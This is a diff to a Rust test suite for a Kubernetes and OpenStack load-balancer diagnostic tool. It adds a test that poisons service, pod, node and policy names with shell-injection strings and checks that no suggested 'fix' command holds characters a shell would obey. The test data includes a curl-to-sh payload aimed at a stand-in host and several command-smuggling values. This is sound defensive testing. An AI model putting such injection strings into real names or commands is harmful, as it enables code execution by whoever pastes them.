@@ -506,7 +506,7 @@ status
     Service shop/web status.loadBalancer.ingress: 203.0.113.10 with ipMode VIP
     Service shop/web the path: loadbalancer.openstack.org/proxy-protocol: v2
     openstack-ccm would publish: 203.0.113.10 with ipMode Proxy: the load balancer adds the PROXY protocol header
-    fix: let openstack-ccm publish it (`openstack-ccm adopt` shows what would change), or ip-mode-overlay beside another controller
+    fix: let openstack-ccm publish it: openstack-ccm adopt shows what would change. Beside another controller: ip-mode-overlay
     see https://github.com/openstack-ccm/openstack-ccm/blob/main/docs/reference/findings.md#d201
 
 A packet to 203.0.113.10 from a pod or from a node ends at hop 2 (status): 203.0.113.10 with ipMode VIP: nodes short-circuit it, but the load balancer adds the PROXY protocol header [D201]; one from outside reaches the application through the load balancer.
@@ -522,8 +522,9 @@ fn text_is_wrapped_and_coloured_for_a_terminal_only() {
     let text = table::text(&world.outcome(), style);
     assert!(text.contains("\u{1b}[31m×\u{1b}[0m "));
     let visible = |line: &str| line.replace("\u{1b}[31m", "").replace("\u{1b}[0m", "").chars().count();
-    let long: Vec<&str> =
-        text.lines().filter(|line| visible(line) > 80 && line.trim().contains(' ')).collect();
+    let long = text.lines().filter(|line| visible(line) > 80 && line.trim().contains(' '));
+    // A command is pasted, so it stays in one line.
+    let long: Vec<&str> = long.filter(|line| !line.trim_start().starts_with("fix: ")).collect();
     assert!(long.is_empty(), "{long:#?}");
 }
 
@@ -573,6 +574,100 @@ fn the_guide_quotes_what_doctor_says() {
             .find(|line| line.ends_with(&format!(" [{code}]")))
             .unwrap_or_else(|| panic!("{text}"));
         assert!(guide.contains(line), "{line}");
+    }
+}
+
+/// The first letter that a shell would obey, if any.
+fn obeyed(line: &str) -> Option<char> {
+    let mut letters = line.chars();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '\'' => {
+                if !letters.any(|letter| letter == '\'') {
+                    return Some(letter);
+                }
+            }
+            // A quotation mark between two quoted parts.
+            '\\' if letters.clone().next() == Some('\'') => drop(letters.next()),
+            '$' | '`' | ';' | '|' | '&' | '<' | '>' | '\\' | '(' | ')' | '*' | '?' | '!' | '#' | '~'
+            | '\n' => {
+                return Some(letter);
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// Names as somebody writes them who hopes that others paste them.
+const EVIL: [&str; 6] =
+    ["x?$(curl${IFS}evil.example|sh)", "a'; id #", "`id`", "a b\nid", "--kubeconfig=/x", "a && b > c"];
+
+/// The world of a code in which everything that somebody may name has this name.
+fn poisoned(code: Code, evil: &str) -> World {
+    let mut world = world_with(code);
+    let text = || evil.to_owned();
+    world.facts.service.metadata.namespace = Some(text());
+    world.facts.service.metadata.name = Some(text());
+    if let Some(spec) = &mut world.facts.service.spec {
+        spec.selector = Some([(text(), text())].into());
+    }
+    if let Ok(backend) = &mut world.facts.backend {
+        backend.pod = text();
+        for container in &mut backend.containers {
+            container.words.retain(|word| !word.contains("shop/nginx"));
+            container.words.push(format!("--configmap={evil}/{evil}"));
+        }
+        backend.config_maps.insert(format!("{evil}/{evil}"), Ok(BTreeMap::new()));
+    }
+    if let Ok(cloud) = &mut world.facts.cloud {
+        for object in cloud.children.objects.iter_mut().chain(&mut cloud.load_balancer) {
+            (object.name, object.id) = (text(), format!("{}{evil}", object.id));
+        }
+        for change in &mut cloud.changes {
+            change.name = text();
+        }
+    }
+    for workload in world.cluster.workloads.iter_mut().flatten() {
+        (workload.namespace, workload.name) = (text(), format!("hairpin-proxy{evil}"));
+    }
+    for policy in world.cluster.policies.iter_mut().flatten() {
+        policy.metadata.name = Some(text());
+        policy.metadata.namespace = Some(format!("cert-manager{evil}"));
+    }
+    for service in world.cluster.services.iter_mut().flatten() {
+        (service.metadata.namespace, service.metadata.name) = (Some(text()), Some(text()));
+        let annotation = "loadbalancer.openstack.org/hostname".to_owned();
+        service.metadata.annotations = Some([(annotation, text())].into());
+        let label = "service.kubernetes.io/service-proxy-name".to_owned();
+        service.metadata.labels = Some([(label, text())].into());
+    }
+    for node in world.cluster.nodes.iter_mut().flatten() {
+        node.name = text();
+    }
+    for dns in world.cluster.dns.iter_mut().flatten() {
+        dns.config_map = text();
+    }
+    world
+}
+
+/// Commands are pasted by administrators, and names are given by tenants.
+#[test]
+fn no_fix_holds_what_a_shell_would_obey() {
+    for (code, evil) in TABLE.iter().flat_map(|entry| EVIL.map(|evil| (entry.code, evil))) {
+        let outcome = poisoned(code, evil).outcome();
+        let fixes = outcome.checks().filter_map(|check| match check {
+            Check::Found(finding) => finding.fix.as_ref().map(ToString::to_string),
+            _ => None,
+        });
+        for fix in fixes {
+            assert_eq!(obeyed(&fix), None, "{code} with {evil:?}: {fix}");
+        }
+        let style = table::Style { short: false, colours: false, width: Some(80) };
+        let page = table::text(&outcome, style);
+        for line in page.lines().filter_map(|line| line.trim_start().strip_prefix("fix: ")) {
+            assert_eq!(obeyed(line), None, "{code} with {evil:?}: {line}");
+        }
     }
 }
 
